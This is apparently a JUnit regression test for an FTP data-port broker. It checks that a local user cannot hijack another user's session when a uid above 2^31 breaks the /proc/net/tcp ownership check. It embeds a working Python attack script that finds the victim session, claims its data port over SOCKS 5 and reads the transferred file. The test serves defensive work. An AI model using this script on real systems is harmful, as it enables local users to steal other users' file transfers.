package org.ftb.regression;

import org.ftb.testing.Bytes;
import org.ftb.testing.OtherUser;
import org.ftb.testing.SocksClient;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

import java.io.BufferedReader;
import java.io.IOException;
import java.io.InputStreamReader;
import java.net.InetAddress;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Break-it pass on b5dce7a (one pass of /proc/net/tcp answers the claimant and the session together).
 *
 * <p><b>Attack:</b> a batch job whose local user has a uid above 2^31-1 (Linux uids are unsigned 32-bit;
 * directory services hand such uids out, and RHEL's old nfsnobody was 4294967294) runs an FTP session
 * through the broker. Here its control connection comes from a small relay that runs as uid 2147483648,
 * so that the socket the broker looks up is that user's. Another local user, uid 65534 with no
 * credentials, finds the session's control connection in /proc/net/tcp (anyone may read it) and claims
 * the session's announced data port through SOCKS 5 from a client port just above the session's: Linux
 * (6.x) files an established socket under its local port plus a hash of the rest of its address, so its
 * line comes just after the session's in the table.
 *
 * <p><b>Observed:</b> proc(5) prints the uid unsigned; {@code ProcNetTcp} reads it with
 * {@code Integer.parseInt}, whose NumberFormatException is caught as a RuntimeException that ends the
 * whole pass at the session's line. The claimant, listed after it, is never reached: both owners are
 * "unknown", unknown equals unknown, and the claim is accepted on the first try; the other user then
 * reads all of the session's RETR. Before b5dce7a the two were separate reads, so the claimant was still
 * found (65534 is not unknown) and refused. (A plain connect() to the port works too, for the data ports
 * whose hash lists the claimant after the session, about half of them; the session's owner is never
 * cached, since it is never read, so nothing stops retries.)
 *
 * <p><b>Correct:</b> every claim of the other user is refused (the port stays open to its owner), and it
 * reads nothing of the session's file. A uid is read as the unsigned number it is, and a line that cannot
 * be read ends neither the look for the other connections nor makes an owner "unknown" that passes.
 */
@Timeout(180)
class Fault72UidAbove2To31MakesEveryOwnerUnknownTest {
    /** A uid above Integer.MAX_VALUE, with no passwd entry: setpriv takes numbers. */
    static final String HIGH_UID = "2147483648";

    /** Relays one connection from the test to the broker's SOCKS port, from a socket of its own user. */
    private static final String RELAY = String.join("\n",
            "import socket,select,sys",
            "l=socket.socket(); l.bind(('127.0.0.1',0)); l.listen(1)",
            "print(l.getsockname()[1],flush=True)",
            "c,_=l.accept(); l.close()",
            "s=socket.create_connection(('127.0.0.1',int(sys.argv[1])))",
            "while True:",
            "    r,_,_=select.select([c,s],[],[],120)",
            "    if not r: break",
            "    done=False",
            "    for x in r:",
            "        try: d=x.recv(65536)",
            "        except OSError: d=b''",
            "        if not d: done=True; break",
            "        (s if x is c else c).sendall(d)",
            "    if done: break",
            "");

    /**
     * The other user's attack on data port argv[1] through the SOCKS port argv[2]. Anyone may read
     * /proc/net/tcp: the session's control connection is the line to the SOCKS port of another user. Linux
     * (6.x) files an established socket under its local port plus a hash of the other three parts of its
     * address, so a claim through SOCKS from a client port just above the session's is listed just after
     * the session's line: the pass meets the session's line first. SOCKS 5 CONNECT to 127.0.0.1:argv[1];
     * the first claim granted is kept and read to its end.
     */
    private static final String ATTACK = String.join("\n",
            "import socket,sys,os,hashlib",
            "P=int(sys.argv[1]); B=int(sys.argv[2])",
            "session=None",
            "with open('/proc/net/tcp') as f:",
            "    next(f)",
            "    for l in f:",
            "        x=l.split()",
            "        if x[2].endswith(':%04X'%B) and x[7]!=str(os.getuid()) and x[9]!='0': session=int(x[1].split(':')[1],16)",
            "if session is None: print('NO SESSION LINE',flush=True); sys.exit(0)",
            "n=0",
            "for port in range(session+1,session+60):",
            "    s=socket.socket()",
            "    try: s.bind(('127.0.0.1',port)); s.connect(('127.0.0.1',B))",
            "    except OSError: s.close(); continue",
            "    n+=1; s.settimeout(10)",
            "    try:",
            "        s.sendall(bytes([5,1,0])); s.recv(2)",
            "        s.sendall(bytes([5,1,0,1,127,0,0,1])+P.to_bytes(2,'big')); r=s.recv(10)",
            "    except OSError: s.close(); continue",
            "    if len(r)<2 or r[1]!=0: s.close(); continue",
            "    print('HELD after %d claim(s), from port %d (the session is on %d)'%(n,port,session),flush=True)",
            "    got=b''; s.settimeout(20)",
            "    try:",
            "        while True:",
            "            d=s.recv(65536)",
            "            if not d: break",
            "            got+=d",
            "    except OSError: pass",
            "    print('GOT',len(got),hashlib.sha256(got).hexdigest(),flush=True); sys.exit(0)",
            "print('REFUSED',n,flush=True)",
            "");

    @TempDir
    Path dir;
    private DataPortRig rig;
    private final List<Process> started = new ArrayList<>();

    @AfterEach
    void tearDown() throws Exception {
        for (Process p : started) {
            p.destroyForcibly();
        }
        if (rig != null) {
            rig.close();
        }
    }

    @Test
    void anotherLocalUserCannotTakeTheDataPortOfAUserWithAUidAbove2To31() throws Exception {
        Assumptions.assumeTrue(OtherUser.available() && Files.isExecutable(Path.of("/usr/bin/python3")),
                "needs root, setpriv and /usr/bin/python3 to act as other local users");
        rig = new DataPortRig(dir, 256 * 1024, "", "");

        Process relay = as(HIGH_UID, RELAY, Integer.toString(rig.broker.port()));
        BufferedReader relayOut = reader(relay);
        int relayPort = Integer.parseInt(relayOut.readLine().trim());
        Socket control = new Socket(InetAddress.getByName("127.0.0.1"), relayPort);
        control.setSoTimeout(15_000);
        assertThat(SocksClient.v5(control, Bytes.v5Ipv4(1, SocksClient.loopback(), rig.ftp.port()))).startsWith(5, 0);
        try (FtpRig.Control victim = new FtpRig.Control(control)) {
            int port = DataPortRig.loginAndPasv(victim);

            Process attacker = as(OtherUser.UID, ATTACK, Integer.toString(port), Integer.toString(rig.broker.port()));
            BufferedReader attack = reader(attacker);
            String outcome = String.valueOf(attack.readLine());
            if (outcome.startsWith("HELD")) {
                // The other user holds a data connection of the session: the session's next transfer is its.
                victim.send("RETR victim.bin");
                outcome += "; RETR: " + victim.line() + "; " + attack.readLine();
            }
            assertThat(outcome)
                    .as("what uid %s got from the data port of a session of uid %s (victim.bin is %d bytes, sha256 %s)",
                            OtherUser.UID, HIGH_UID, rig.content.length, Rig.sha256(rig.content))
                    .startsWith("REFUSED");
        }
    }

    private Process as(String uid, String script, String... arguments) throws IOException {
        Process p = OtherUser.python(uid, script, arguments);
        started.add(p);
        return p;
    }

    private static BufferedReader reader(Process p) {
        return new BufferedReader(new InputStreamReader(p.getInputStream(), StandardCharsets.US_ASCII));
    }
}
